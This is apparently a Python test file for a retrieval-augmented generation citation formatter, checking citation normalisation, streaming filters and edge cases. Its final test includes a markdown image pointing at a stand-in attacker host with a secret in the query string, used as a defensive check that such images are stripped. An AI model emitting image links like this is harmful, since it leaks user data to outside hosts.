from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.read.citations import TokenFilter, best_quote, cite
from rag.types import Passage

TEXTS = (
    "It ships within two working days. The battery lasts 38 hours with noise cancelling on.",
    "Headphones can be returned within 30 days of delivery, as long as they are clean.",
    "The kettle holds one litre and weighs 900 g.",
)
PASSAGES = tuple(Passage(doc_id=f"d{n}", chunk_id=f"d{n}#0", text=text) for n, text in enumerate(TEXTS))


@pytest.mark.parametrize(
    ("written", "final"),
    [
        ("It lasts 38 hours [1].", "It lasts 38 hours [1]."),
        ("It lasts 38 hours[1].", "It lasts 38 hours[1]."),
        ("It lasts 38 hours. [1]", "It lasts 38 hours. [1]"),
        ("Clean ones go back [1, 2].", "Clean ones go back [1][2]."),
        ("Clean ones go back [1][2].", "Clean ones go back [1][2]."),
        ("Clean ones go back [1-3].", "Clean ones go back [1][2][3]."),
        ("Clean ones go back [3–1].", "Clean ones go back [1][2][3]."),
        ("Clean ones go back 【1】.", "Clean ones go back [1]."),
        ("Clean ones go back 【1†L1-L9】.", "Clean ones go back [1]."),
        ("Clean ones go back [[1]].", "Clean ones go back [1]."),
        ("Clean ones go back [Source 1].", "Clean ones go back [1]."),
        ("Clean ones go back [#1; #1].", "Clean ones go back [1]."),
    ],
)
def test_every_spelling_of_a_citation_becomes_one_number_in_one_bracket(written: str, final: str) -> None:
    assert cite(written, PASSAGES).text == final


@pytest.mark.parametrize(
    ("written", "final", "gone"),
    [
        ("It lasts 38 hours [1] [9].", "It lasts 38 hours [1].", "[9]"),
        ("It lasts 38 hours [9], or more [1].", "It lasts 38 hours, or more [1].", "[9]"),
        ("[7] It lasts 38 hours [1].", "It lasts 38 hours [1].", "[7]"),
        ("It came out in March [2023] [1].", "It came out in March [1].", "[2023]"),
        ("It lasts 38 hours [1, 9].", "It lasts 38 hours [1].", "[9]"),
        ("It lasts 38 hours [0][1].", "It lasts 38 hours [1].", "[0]"),
        ("It lasts 38 hours [1-900000000000].", "It lasts 38 hours [1][2][3].", "[1-900000000000]"),
    ],
)
def test_a_citation_that_points_nowhere_is_removed_and_noted(written: str, final: str, gone: str) -> None:
    cited = cite(written, PASSAGES)
    assert cited.text == final
    assert cited.notes == (f"removed {gone} from the answer: there are 3 passages, numbered from 1",)


def test_a_number_that_the_cited_passages_lack_is_noted() -> None:
    cited = cite("The kettle weighs 950 g [3]. It holds 1 litre, and has been here for 30 days [2][3].", PASSAGES)
    assert cited.notes == ("numbers of the answer that the passages cited for them do not hold: 950",)


@pytest.mark.parametrize(
    "text",
    [
        "He wrote that [sic] [1].",
        "First (1) open it, then (2) fill it [1].",
        "Use `a[0]` and `b[7]` [1].",
        "Run this [1]:\n```\nx = a[9] + a[0]\n```",
        "Run this [1]:\n```\nx = a[9]",
        "See [the page](https://example.com/9) [1].",
    ],
)
def test_other_brackets_and_code_are_left_alone(text: str) -> None:
    assert cite(text, PASSAGES).text == text


@pytest.mark.parametrize(
    "text", ["It [[9]8] folds.", "It [1[9]2] folds.", "It [[[9]8]8] folds.", "It [source [9] 8] folds."]
)
def test_taking_a_citation_out_makes_no_new_one(text: str) -> None:
    final = cite(text, PASSAGES).text
    assert cite(final, PASSAGES).text == final


def test_an_index_in_prose_is_read_as_a_citation() -> None:
    assert cite("Take a[0] from it [1].", PASSAGES).text == "Take a from it [1]."


def test_passages_are_numbered_in_the_order_in_which_they_are_first_cited() -> None:
    cited = cite("It holds one litre [3]. It lasts 38 hours [1]. Weight 900 g [3].", PASSAGES)
    assert cited.text == "It holds one litre [1]. It lasts 38 hours [2]. Weight 900 g [1]."
    assert [(c.n, c.passage.doc_id) for c in cited.citations] == [(1, "d2"), (2, "d0"), (1, "d2")]


def test_a_quote_is_the_statement_that_bears_the_sentence_out() -> None:
    cited = cite("You have 30 days to return headphones [2]. The battery lasts 38 hours. [1] It is free.", PASSAGES)
    assert [c.quote for c in cited.citations] == [TEXTS[1], "The battery lasts 38 hours with noise cancelling on."]
    assert {c.supported for c in cited.citations} == {None}


def test_a_quote_is_empty_when_the_passage_has_nothing_of_the_sentence() -> None:
    assert best_quote("Penguins swim.", PASSAGES[0]) == ""


def test_a_sentence_without_citation_gets_the_passage_that_clearly_bears_it_out() -> None:
    cited = cite("The battery lasts 38 hours. It was sunny on Mars.", PASSAGES)
    assert cited.text == "The battery lasts 38 hours [1]. It was sunny on Mars."
    assert cited.notes == ("sentences of the answer that name no source: 1",)


def test_a_number_that_the_passage_lacks_is_no_clear_overlap() -> None:
    assert cite("The battery lasts 40 hours with noise cancelling on.", PASSAGES).citations == ()


def test_passages_that_the_model_did_not_cite_are_numbered_after_those_it_did() -> None:
    cited = cite("The battery lasts 38 hours. The kettle holds one litre [3].", PASSAGES)
    assert cited.text == "The battery lasts 38 hours [2]. The kettle holds one litre [1]."


@pytest.mark.parametrize(
    "text",
    [
        "The passages do not say how long the battery lasts.",
        "The sources don't mention how long the battery lasts.",
        "The sources say nothing about the battery.",
        "I cannot find the battery in the sources.",
        "There is no information on the battery and its 38 hours.",
        "Which battery do you mean?",
        "The battery has these traits:",
        "Yes.",
        "So the answer is 38 hours battery.",
    ],
)
def test_what_needs_no_source_gets_none_and_is_not_counted(text: str) -> None:
    cited = cite(text, PASSAGES)
    assert (cited.text, cited.citations, cited.notes) == (text, (), ())


def test_a_text_of_citations_alone_is_empty() -> None:
    assert cite(" [1] [2]", PASSAGES).text == ""


BRACKETS = [
    "[",
    "]",
    "【",
    "】",
    "1",
    "2",
    "9",
    ",",
    "-",
    "`",
    "```",
    "†",
    "[1]",
    "[3]",
    "[sic]",
    "(2)",
    "a[0]",
    "source",
]
OTHERS = [
    " ",
    "  ",
    "\n",
    "word",
    ".",
    "(x)",
    ":",
    "|",
    "- ",
    "# x\n",
    "٣",
    "\ud800",
    "\u200b",
    "The battery lasts 38 hours.",
]
ANSWERS = st.lists(st.sampled_from(BRACKETS + OTHERS), max_size=25).map("".join)


@given(ANSWERS, st.integers(0, 3))
def test_the_final_text_has_right_spans_and_no_number_out_of_range(text: str, count: int) -> None:
    cited = cite(text, PASSAGES[:count])
    highest = max((c.n for c in cited.citations), default=0)
    assert {c.n for c in cited.citations} == set(range(1, highest + 1))
    for citation in cited.citations:
        assert cited.text[citation.start : citation.end] == f"[{citation.n}]"
        assert citation.quote in citation.passage.text
    prose = re.sub(r"```.*?(?:```|\Z)|`[^`\n]+`", "", cited.text, flags=re.DOTALL)
    assert all(1 <= int(n) <= highest for n in re.findall(r"\[([0-9]{1,9})\]", prose))


@given(st.text(max_size=60), st.integers(0, 3))
def test_any_text_can_be_checked(text: str, count: int) -> None:
    cited = cite(text, PASSAGES[:count])
    assert all(1 <= citation.n <= count for citation in cited.citations)
    assert cited.text == cited.text.strip()


@given(ANSWERS, st.lists(st.integers(1, 5), max_size=40))
def test_streamed_text_does_not_depend_on_how_it_is_cut(text: str, sizes: list[int]) -> None:
    whole, cut = TokenFilter(3), TokenFilter(3)
    expected = whole.feed(text) + whole.close()
    shown, position = "", 0
    for size in sizes:
        shown += cut.feed(text[position : position + size])
        position += size
    assert shown + cut.feed(text[position:]) + cut.close() == expected


@given(ANSWERS)
def test_streamed_text_is_the_final_text_less_what_is_added_to_it(text: str) -> None:
    tokens = TokenFilter(3)
    streamed = tokens.feed(text) + tokens.close()
    without_passages = tuple(Passage(doc_id=str(n), chunk_id=str(n), text="") for n in range(3))
    final = cite(text, without_passages).text
    assert not final or streamed.strip() == final


@pytest.mark.parametrize(
    ("text", "parted"),
    [
        ("Free [1](http://x.example).", "Free [1] (http://x.example)."),
        ("Free【2】(http://x.example).", "Free[1] (http://x.example)."),
        ("Free.\n[1]: http://x.example", "Free.\n[1] : http://x.example"),
        ("As follows [1]: two.", "As follows [1]: two."),
    ],
)
def test_a_citation_cannot_become_a_link_of_the_texts_own(text: str, parted: str) -> None:
    tokens = TokenFilter(3)
    assert "".join(map(tokens.feed, text)) + tokens.close() == parted
    assert cite(text, PASSAGES).text.startswith(parted)


def test_a_citation_is_held_back_until_it_is_whole() -> None:
    tokens = TokenFilter(3)
    assert [tokens.feed(piece) for piece in ("See [", "3", "]", " and [sic", "] [", "8", "].")] == [
        "See", "", "", " [1] and", " [sic]", "", "."
    ]  # fmt: skip


def test_a_bracket_that_cannot_become_a_citation_is_shown_at_once() -> None:
    assert TokenFilter(3).feed("see the 38 [long page") == "see the 38 [long page"


@pytest.mark.parametrize("text", ["a" + " " * 100_000 + "b", "[" * 50_000, "[1" * 50_000, "`" * 10_001, "[1," * 50_000])
@pytest.mark.timeout(20)
def test_long_runs_are_no_trap(text: str) -> None:
    assert len(cite(text, PASSAGES).text) >= len(text.strip()) - 10


def test_an_answer_shows_no_image_whole_or_in_pieces():
    whole = "Here ![x](http://evil.example/?q=secret) it is, great![1]"
    pieces = ["Here !", "[x](http", "://evil.example/?q=secret) it is, great", "!", "[", "1]"]
    filter_ = TokenFilter(1)
    shown = "".join(filter_.feed(piece) for piece in pieces) + filter_.close()
    passage = Passage(doc_id="d", chunk_id="d#0", text="It is great.")
    assert "![" not in shown
    assert "![" not in cite(whole, (passage,)).text
    assert shown.endswith("[1]")
